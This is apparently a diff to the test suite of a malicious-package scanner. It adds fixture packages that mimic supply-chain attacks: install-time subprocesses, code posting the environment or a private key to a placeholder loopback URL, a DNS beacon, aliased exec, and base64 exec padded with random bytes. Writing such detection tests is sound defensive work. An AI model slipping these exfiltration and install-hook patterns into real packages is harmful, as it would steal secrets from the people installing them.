@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 import marshal
+import random
 import zlib
 from dataclasses import dataclass
 
@@ -244,6 +245,140 @@ CASES = [
         "malicious",
         frozenset({"import-download-run", "drop-and-run", "remote-executable", "hidden-process"}),
     ),
+    Case(
+        "anonymous-upload-runs-a-program-at-install",
+        "demo-1.0.tar.gz",
+        demo_sdist(
+            {"setup.py": code("""
+                import subprocess
+                from setuptools import setup
+                subprocess.run(["python", "-c", "print(1)"])
+                setup(name="demo", version="1.0")
+                """)},
+            info="Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        ),
+        "suspicious",
+        frozenset({"anonymous-install-code", "metadata-empty-description"}),
+    ),
+    Case(
+        "entry-point-posts-to-a-webhook",
+        "demo-1.0-py3-none-any.whl",
+        wheel("demo", "1.0", {
+            "demo/__init__.py": "",
+            "demo/cli.py": code(f"""
+                import platform, requests
+
+                def main():
+                    requests.post("{LOOPBACK}/api/webhooks/1234567890/token", json={{"host": platform.node()}})
+                """),
+            "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
+        }),
+        "suspicious",
+        frozenset({"exfil-endpoint-network", "webhook-endpoint"}),
+    ),
+    Case(
+        "install-time-hidden-window",
+        "demo-1.0.tar.gz",
+        demo_sdist({"setup.py": code("""
+            import subprocess
+            from setuptools import setup
+            subprocess.Popen(["updater"], creationflags=0x08000000)
+            setup(name="demo", version="1.0")
+            """)}),
+        "suspicious",
+        frozenset({"hidden-process"}),
+    ),
+    Case(
+        "function-sends-the-environment",
+        "demo-1.0-py3-none-any.whl",
+        wheel("demo", "1.0", {"demo/__init__.py": "", "demo/report.py": code(f"""
+            import os, urllib.request
+
+            def report():
+                urllib.request.urlopen("{LOOPBACK}/e", data=repr(dict(os.environ)).encode())
+            """)}),
+        "suspicious",
+        frozenset({"env-exfil"}),
+    ),
+    Case(
+        "wallet-helper-sends-the-private-key",
+        "demo-1.0.tar.gz",
+        demo_sdist({"demo/__init__.py": "from .main import sign\n", "demo/main.py": code(f"""
+            import requests
+
+            def sign(private_key):
+                payload = {{"key": private_key}}
+                requests.post("{LOOPBACK}/k", json=payload)
+            """)}),
+        "suspicious",
+        frozenset({"key-exfil"}),
+    ),
+    Case(
+        "import-time-dns-call-home",
+        "demo-1.0.tar.gz",
+        demo_sdist({"demo/__init__.py": code("""
+            import socket
+
+            def _probe():
+                socket.gethostbyname("demo.callhome.invalid")
+
+            _probe()
+            """)}),
+        "suspicious",
+        frozenset({"dns-beacon"}),
+    ),
+    Case(
+        "obfuscator-banner-and-escaped-eval",
+        "demo-1.0.tar.gz",
+        demo_sdist({"demo/__init__.py": code("""
+            # Obfuscated with SomeObfuscator
+            _e = eval("\\145\\166\\x61\\x6c")
+            """)}),
+        "suspicious",
+        frozenset({"packed-code", "eval-escaped-literal"}),
+    ),
+    Case(
+        "oversized-setup-runs-decoded-code",
+        "demo-1.0.tar.gz",
+        demo_sdist({"setup.py": code(f"""
+            import base64
+            from setuptools import setup
+            setup(name="demo", version="1.0")
+            exec(base64.b64decode("{HIDDEN}"))
+            """) + "# " + random.Random(0).randbytes(600_000).hex() + "\n"}),
+        "malicious",
+        frozenset({"oversized-code", "exec-decoded-text"}),
+    ),
+    Case(
+        "exec-aliased-among-builtins",
+        "demo-1.0.tar.gz",
+        demo_sdist({"demo/__init__.py": code("""
+            Run, Text = exec, str
+            Run(Text("x = 1"))
+            """)}),
+        "suspicious",
+        frozenset({"exec-alias"}),
+    ),
+    Case(
+        "import-time-recon",
+        "demo-1.0.tar.gz",
+        demo_sdist({"demo/__init__.py": code("""
+            import getpass, subprocess
+            subprocess.run(["echo", getpass.getuser()])
+            """)}),
+        "suspicious",
+        frozenset({"import-recon"}),
+    ),
+    Case(
+        "typosquat-home-calls-on-import",
+        "demo-1.0.tar.gz",
+        demo_sdist(
+            {"demo/__init__.py": f"import urllib.request\nurllib.request.urlopen('{LOOPBACK}/hi')\n"},
+            info=pkg_info("demo", "1.0", home="https://github.com/someone/requests"),
+        ),
+        "suspicious",
+        frozenset({"foreign-home-import-network", "import-network"}),
+    ),
 ]
 
 
@@ -302,3 +437,19 @@ def test_python_2_source_falls_back_to_text_rules() -> None:
     rules = {f.rule for f in report.findings}
     assert "unparsable-python" in rules and "shell-download" in rules
     assert report.verdict == "malicious"
+
+
+def test_metadata_of_archives_carried_as_test_data_is_not_the_distributions() -> None:
+    fixture = wheel("fixture", "0.1", {"fixture/__init__.py": ""}, info="Metadata-Version: 2.1\nName: fixture\nVersion: 0.1\n")
+    data = demo_sdist({"setup.py": PLAIN_SETUP, "tests/fixture-0.1-py3-none-any.whl": fixture})
+    report = scan(data, "demo-1.0.tar.gz")
+    assert "metadata-empty-description" not in {f.rule for f in report.findings}
+    assert report.verdict == "clean"
+
+
+def test_prebuilt_library_in_an_sdist_is_a_medium_finding() -> None:
+    data = demo_sdist({"setup.py": PLAIN_SETUP, "demo/_core.so": b"\x7fELF\x02\x01\x01" + bytes(64)})
+    rules = {f.rule: f.severity for f in scan(data, "demo-1.0.tar.gz").findings}
+    assert rules.get("native-in-sdist") == "medium"
+    wheel_data = wheel("demo", "1.0", {"demo/__init__.py": "", "demo/_core.so": b"\x7fELF" + bytes(64)})
+    assert "native-in-sdist" not in {f.rule for f in scan(wheel_data, "demo-1.0-py3-none-any.whl").findings}
